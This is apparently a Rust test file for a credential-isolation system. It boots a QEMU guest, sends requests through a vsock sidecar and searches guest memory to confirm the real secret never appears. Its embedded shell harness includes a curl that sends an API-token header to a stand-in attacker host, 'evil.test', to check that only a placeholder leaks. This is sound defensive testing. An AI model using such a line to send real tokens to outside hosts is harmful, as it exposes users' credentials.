//! A whole machine: Debian's kernel under QEMU, whose only device to the outside is a virtio vsock with
//! Firecracker's host side (a connection to port 1025 arrives at `UDS_1025`), and `keyless-guest` as
//! its first process. While it runs, all of its memory is searched for the value.
//!
//! What it needs is put into a cache by `cargo xtask setup`. Source: reference/guest-vm.md.

/// The machine's first file system.
mod initramfs;
/// The emulator, the device's host side, and the console.
mod machine;

use keyless_testkit::Canary;
use rustix::process::Signal;

use self::machine::Machine;
use crate::{
    node::Node,
    world::{ALLOWED, EVIL, World},
};

/// What the harness does; between the questions it waits, and its memory is looked at.
const HARNESS: &str = r#"
get() {
    curl -sS -o /tmp/answer -w "$1 %{http_code}\n" -H "X-Key: $API_TOKEN" "$@" || echo "$1 failed"
    # What the allowed host echoes, as an agent would keep it.
    cat /tmp/answer
}
# With nothing but the system's own bundle, and with the variables.
env -i PATH="$PATH" curl -sS -o /dev/null -w 'bundle %{http_code}\n' https://api.allowed.test/bundle
get https://api.allowed.test/
get https://evil.test/ -k
curl -sS -k -o /dev/null -w 'odd port %{http_code}\n' https://evil.test:8444/
echo question
read answer
get https://api.allowed.test/again
exit 7
"#;

/// Boot, four requests, the search, a new sidecar under the same guest, the end.
#[test]
fn a_guests_memory_never_holds_the_value() {
    let mut world = World::empty();
    let (origin, evil) = (world.origin(ALLOWED), world.origin(EVIL));
    world.route("evil.test:8444", &evil.address().to_string());
    let mut node = Node::start(&world);
    let placeholder = node.placeholder("thread-7");
    let ca = std::fs::read_to_string(node.ca()).unwrap();
    let image = initramfs::with(&[
        ("etc/keyless/ca.pem", ca.as_bytes()),
        ("etc/keyless/placeholders", format!("API_TOKEN={placeholder}\n").as_bytes()),
        (
            "etc/keyless/guest.conf",
            b"ca = /etc/keyless/ca.pem\nplaceholders = /etc/keyless/placeholders\n",
        ),
        ("harness", HARNESS.as_bytes()),
    ]);
    let mut machine = Machine::new(&world.home.root().join("tmp"), &image);
    // The socket that the hypervisor connects to is named after the session in these tests.
    let forwarder = node.forwarder("thread-7");
    std::fs::rename(&forwarder.socket, machine.egress_socket()).unwrap();

    let console = machine.console_until("question");
    assert!(console.contains("capture: nf_tables"), "{console}");
    for line in
        ["bundle 200", "https://api.allowed.test/ 200", "https://evil.test/ 200", "odd port 200"]
    {
        assert!(console.contains(line), "{line} is missing in {console}");
    }
    world.assert_received(&origin);
    world.assert_received_placeholder_only(&evil);

    let memory = machine.memory();
    assert!(contains(&memory, placeholder.as_bytes()), "the search finds what is there");
    assert!(contains(&memory, b"keyless-guest"), "all of it is searched");
    world.canary.assert_absent("the guest's memory", &memory);
    drop(memory);

    // A snapshot that is restored sees another process outside; nothing inside has changed.
    node.sidecar.signal(Signal::TERM);
    node.sidecar.wait();
    let node = Node::start(&world);
    machine.type_line("go on");
    let console = machine.console_until("the command has ended with status 7");
    assert!(console.contains("https://api.allowed.test/again 200"), "{console}");
    let keys: Vec<_> =
        origin.requests().into_iter().filter_map(|request| request.header("x-key")).collect();
    assert_eq!(keys, [world.canary.value(), world.canary.value()]);
    assert_eq!(node.placeholder("thread-7"), placeholder);
    let log = world.log();
    let strangers = log.iter().filter(|entry| entry["outcome"] == "refused");
    assert_eq!(strangers.count(), 0, "{log:?}");
    let console = machine.end();
    world.saw("the guest's console", console.as_bytes());
}

/// What a kernel's command line says is enough, without a script before it; and the search itself: a
/// value that is in a guest's memory is found, wherever its pages lie.
#[test]
fn what_is_in_a_guests_memory_is_found() {
    let world = World::empty();
    let planted = Canary::new();
    let harness = "read planted < /planted; rm /planted; echo question; read answer";
    let image = initramfs::with(&[
        ("planted", format!("{}\n", planted.value()).as_bytes()),
        ("harness", harness.as_bytes()),
    ]);
    let words = "rdinit=/bin/keyless-guest PATH=/bin EGRESS_PORTS=80,8443 KEYLESS_CAPTURE=ports -- sh /harness";
    let mut machine = Machine::told(words, &world.home.root().join("tmp"), &image);
    let console = machine.console_until("question");
    assert!(console.contains("capture: the ports 80 8443"), "{console}");
    assert!(planted.find(&machine.memory()).is_some());
}

/// Listening on vsock, as a host does, on a machine that is its own host: who a connection is from is
/// the kernel's word, and only the guest that is meant is let in.
#[test]
fn a_vsock_door_knows_who_is_there() {
    let world = World::empty();
    let doors = std::fs::read(super::binary::vsock_doors()).unwrap();
    let image = initramfs::with(&[
        ("doors", &doors),
        ("etc/keyless/guest.conf", b"capture = ports\n"),
        ("harness", b"insmod /modules/vsock_loopback.ko; /doors; echo done; read answer"),
    ]);
    let mut machine = Machine::new(&world.home.root().join("tmp"), &image);
    let console = machine.console_until("done");
    let doors: Vec<_> = console.lines().filter(|line| line.starts_with("door")).collect();
    assert_eq!(
        doors[..2],
        ["door 2001: you are 1, any.test:80.", "door 2002: come in, any.test:80."]
    );
    assert!(!doors[2].contains("come in"), "{}", doors[2]);
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|window| window == needle)
}
